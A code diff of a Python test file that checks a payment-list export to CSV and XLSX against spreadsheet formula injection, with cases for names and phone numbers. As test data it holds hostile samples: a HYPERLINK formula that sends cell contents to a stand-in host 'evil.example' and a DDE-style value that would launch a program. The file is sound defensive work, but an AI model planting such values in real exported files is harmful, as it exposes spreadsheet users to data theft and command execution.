@@ -4,7 +4,9 @@ count."""
 
 import csv
 import io
+import zipfile
 from typing import Any
+from xml.sax.saxutils import escape
 
 import pytest
 from django.db import connection
@@ -109,8 +111,9 @@ def test_csv_has_one_row_a_payment_with_latin_names_documents_and_phones(
     assert (spouse["document_kind"], spouse["document_number"]) == ("", "")
     child = by_given["Ani"]
     assert (child["family_name"], child["family_name_latin"]) == ("Harutyunyan", "Harutyunyan")
-    # The household's phone where the person has none; a leading + is protected, not lost.
-    assert {r["phone"] for r in rows} == {"'+37491123456"}
+    # The household's phone where the person has none, exactly as registered: + and digits
+    # cannot run as a formula, and the bank needs the number, not an apostrophe before it.
+    assert {r["phone"] for r in rows} == {"+37491123456"}
 
 
 def test_person_phone_comes_before_the_household_phone(personas: Personas) -> None:
@@ -132,25 +135,65 @@ def test_xlsx_reads_back_the_same_rows_as_the_csv(personas: Personas) -> None:
     assert isinstance(from_xlsx[0]["list_number"], int)
 
 
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_a_name_that_is_a_formula_is_written_as_text(personas: Personas, fmt: str) -> None:
+EVIL = '=HYPERLINK("http://evil.example/"&A1)'
+
+
+def _formula_names(personas: Personas) -> PaymentList:
     payment_list = make_list(personas, households=1)
     # Names reach the database by other roads than the registration form's checks (an old
     # import, an edit): the export must not trust them.
-    Person.objects.filter(given_name="Հասմիկ").update(
-        family_name='=HYPERLINK("http://evil.example/"&A1)', given_name="@SUM(1+1)"
-    )
+    Person.objects.filter(given_name="Հասմիկ").update(family_name=EVIL, given_name="@SUM(1+1)")
     Person.objects.filter(given_name="Арам").update(patronymic="-2+3", given_name="\tcmd")
-    data = exported(payment_list, fmt, personas)
-    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
+    return payment_list
+
+
+def test_a_name_that_is_a_formula_gets_an_apostrophe_in_the_csv(personas: Personas) -> None:
+    rows = read_csv(exported(_formula_names(personas), "csv", personas))
     head = next(r for r in rows if r["given_name"] == "'@SUM(1+1)")
-    assert head["family_name"] == '\'=HYPERLINK("http://evil.example/"&A1)'
-    assert head["family_name_latin"] == '\'=HYPERLINK("http://evil.example/"&A1)'
+    assert head["family_name"] == "'" + EVIL
+    assert head["family_name_latin"] == "'" + EVIL
     spouse = next(r for r in rows if r["given_name"] == "'\tcmd")
     assert spouse["patronymic"] == "'-2+3"
-    if fmt == "xlsx":
-        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
-        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_a_name_that_is_a_formula_is_an_inline_string_in_the_xlsx(personas: Personas) -> None:
+    data = exported(_formula_names(personas), "xlsx", personas)
+    rows = read_xlsx(data)
+    # Written exactly: an inline string is text to a spreadsheet, never a formula.
+    head = next(r for r in rows if r["given_name"] == "@SUM(1+1)")
+    assert (head["family_name"], head["family_name_latin"]) == (EVIL, EVIL)
+    spouse = next(r for r in rows if r["given_name"] == "\tcmd")
+    assert spouse["patronymic"] == "-2+3"
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
+    assert f't="inlineStr"><is><t xml:space="preserve">{escape(EVIL)}</t></is>' in xml
+
+
+@pytest.mark.parametrize(
+    ("phone", "in_csv"),
+    [
+        ("+37491123456", "+37491123456"),
+        ("+374 91 123456", "+374 91 123456"),
+        ("091123456", "091123456"),
+        ("(091) 12-34-56", "(091) 12-34-56"),
+        # Excel would subtract these: they keep the apostrophe.
+        ("+374-91-123456", "'+374-91-123456"),
+        ("-91-123456", "'-91-123456"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ],
+)
+def test_phones_are_written_as_they_are_unless_a_spreadsheet_would_compute_them(
+    personas: Personas, phone: str, in_csv: str
+) -> None:
+    payment_list = make_list(personas, households=1)
+    Person.objects.filter(given_name="Հասմիկ").update(phone=phone)
+    from_csv = read_csv(exported(payment_list, "csv", personas))
+    assert {r["given_name"]: r["phone"] for r in from_csv}["Հասմիկ"] == in_csv
+    from_xlsx = read_xlsx(exported(payment_list, "xlsx", personas))
+    assert {r["given_name"]: r["phone"] for r in from_xlsx}["Հասմիկ"] == phone
 
 
 def test_exporting_writes_one_audit_row_for_the_whole_list(personas: Personas) -> None:
